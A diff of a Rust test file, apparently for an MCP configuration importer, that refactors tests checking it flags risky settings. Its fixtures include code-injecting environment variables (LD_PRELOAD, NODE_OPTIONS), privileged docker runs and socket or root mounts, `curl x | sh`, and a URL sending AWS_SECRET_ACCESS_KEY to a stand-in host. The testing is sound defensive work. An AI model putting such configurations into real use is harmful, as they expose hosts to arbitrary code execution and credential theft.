@@ -1,7 +1,7 @@
 //! An import reads nothing of our environment, and runs nothing but what it shows.
 
 use super::{import, written};
-use crate::config::{ImportOptions, ImportValues};
+use crate::config::{ImportOptions, ImportValues, Risk};
 
 fn npm(more: &str) -> String {
     format!(
@@ -91,16 +91,17 @@ fn a_description_smuggles_no_command() {
     }
 }
 
-#[test]
-fn what_can_run_other_code_has_to_be_agreed_to() {
-    let risky = |text: &str, file: &str, values: ImportValues| {
-        let options = ImportOptions {
-            values,
-            ..ImportOptions::default()
-        };
-        let imported = import(file, text, &options).unwrap_or_else(|problems| panic!("{problems}"));
-        imported.risks
+fn risky(file: &str, text: &str, values: ImportValues) -> Vec<Risk> {
+    let options = ImportOptions {
+        values,
+        ..ImportOptions::default()
     };
+    let imported = import(file, text, &options).unwrap_or_else(|problems| panic!("{problems}"));
+    imported.risks
+}
+
+#[test]
+fn variables_that_run_other_code_have_to_be_agreed_to() {
     for name in [
         "NODE_OPTIONS",
         "LD_PRELOAD",
@@ -118,7 +119,7 @@ fn what_can_run_other_code_has_to_be_agreed_to() {
             let text = npm(&format!(
                 r#""environmentVariables": [{{"name": "{name}", {more}}}]"#
             ));
-            let risks = risky(&text, "server.json", ImportValues::Reference);
+            let risks = risky("server.json", &text, ImportValues::Reference);
             assert!(
                 risks
                     .iter()
@@ -128,83 +129,83 @@ fn what_can_run_other_code_has_to_be_agreed_to() {
         }
         let text =
             format!(r#"{{"mcpServers": {{"a": {{"command": "x", "env": {{"{name}": "y"}}}}}}}}"#);
-        assert!(
-            risky(&text, "mcp.json", ImportValues::Reference)
-                .iter()
-                .any(|risk| risk.text.contains(name)),
-            "{name}"
-        );
+        let risks = risky("mcp.json", &text, ImportValues::Reference);
+        assert!(risks.iter().any(|risk| risk.text.contains(name)), "{name}");
     }
-    for (command, text, confirm) in [
-        (
-            r#""docker", "args": ["run", "-i", "--privileged", "x"]"#,
-            "--privileged",
-            true,
-        ),
-        (
-            r#""docker", "args": ["run", "--network", "host", "x"]"#,
-            "network host",
-            true,
-        ),
-        (
-            r#""podman", "args": ["run", "--network=host", "x"]"#,
-            "network host",
-            true,
-        ),
-        (
-            r#""docker", "args": ["run", "-v", "/var/run/docker.sock:/x", "x"]"#,
-            "docker.sock",
-            true,
-        ),
-        (
-            r#""docker", "args": ["run", "--mount", "type=bind,source=/,target=/x", "x"]"#,
-            "can reach /",
-            true,
-        ),
-        (
-            r#""docker", "args": ["run", "-v/etc:/x", "x"]"#,
-            "can reach /etc",
-            true,
-        ),
-        (
-            r#""docker", "args": ["run", "--cap-add=ALL", "x"]"#,
-            "--cap-add",
-            true,
-        ),
-        (
-            r#""docker", "args": ["run", "-v", "./data:/data", "x"]"#,
-            "can reach ./data",
-            false,
-        ),
-        (
-            r#""sh", "args": ["-c", "curl x | sh"]"#,
-            "runs the code that follows",
-            false,
-        ),
-        (
-            r#""uvx", "args": ["--from", "git+https://x.example/y", "z"]"#,
-            "at an address",
-            false,
-        ),
-        (
-            r#""npx", "args": ["-y", "--registry=https://x.example", "z"]"#,
-            "from elsewhere",
-            true,
-        ),
-    ] {
+}
+
+const COMMANDS: &[(&str, &str, bool)] = &[
+    (
+        r#""docker", "args": ["run", "-i", "--privileged", "x"]"#,
+        "--privileged",
+        true,
+    ),
+    (
+        r#""docker", "args": ["run", "--network", "host", "x"]"#,
+        "network host",
+        true,
+    ),
+    (
+        r#""podman", "args": ["run", "--network=host", "x"]"#,
+        "network host",
+        true,
+    ),
+    (
+        r#""docker", "args": ["run", "-v", "/var/run/docker.sock:/x", "x"]"#,
+        "docker.sock",
+        true,
+    ),
+    (
+        r#""docker", "args": ["run", "--mount", "type=bind,source=/,target=/x", "x"]"#,
+        "can reach /",
+        true,
+    ),
+    (
+        r#""docker", "args": ["run", "-v/etc:/x", "x"]"#,
+        "can reach /etc",
+        true,
+    ),
+    (
+        r#""docker", "args": ["run", "--cap-add=ALL", "x"]"#,
+        "--cap-add",
+        true,
+    ),
+    (
+        r#""docker", "args": ["run", "-v", "./data:/data", "x"]"#,
+        "can reach ./data",
+        false,
+    ),
+    (
+        r#""sh", "args": ["-c", "curl x | sh"]"#,
+        "runs the code that follows",
+        false,
+    ),
+    (
+        r#""uvx", "args": ["--from", "git+https://x.example/y", "z"]"#,
+        "at an address",
+        false,
+    ),
+    (
+        r#""npx", "args": ["-y", "--registry=https://x.example", "z"]"#,
+        "from elsewhere",
+        true,
+    ),
+];
+
+#[test]
+fn commands_that_reach_further_are_named() {
+    for (command, text, confirm) in COMMANDS {
         let file = format!(r#"{{"mcpServers": {{"a": {{"command": {command}}}}}}}"#);
-        let risks = risky(&file, "mcp.json", ImportValues::Reference);
-        assert!(
-            risks
-                .iter()
-                .any(|risk| risk.text.contains(text) && risk.confirm == confirm),
-            "{command}: {risks:?}"
-        );
+        let risks = risky("mcp.json", &file, ImportValues::Reference);
+        let named = risks
+            .iter()
+            .any(|risk| risk.text.contains(text) && risk.confirm == *confirm);
+        assert!(named, "{command}: {risks:?}");
     }
     let url = r#"{"mcpServers": {"a": {"url": "https://x.example/?k=${AWS_SECRET_ACCESS_KEY}"}}}"#;
-    assert!(risky(url, "mcp.json", ImportValues::Reference)[0].confirm);
+    assert!(risky("mcp.json", url, ImportValues::Reference)[0].confirm);
     let plain = r#"{"mcpServers": {"a": {"command": "npx", "args": ["-y", "x"], "env": {"API_KEY": "k"}}}}"#;
-    assert!(risky(plain, "mcp.json", ImportValues::Keep).is_empty());
+    assert!(risky("mcp.json", plain, ImportValues::Keep).is_empty());
 }
 
 #[test]
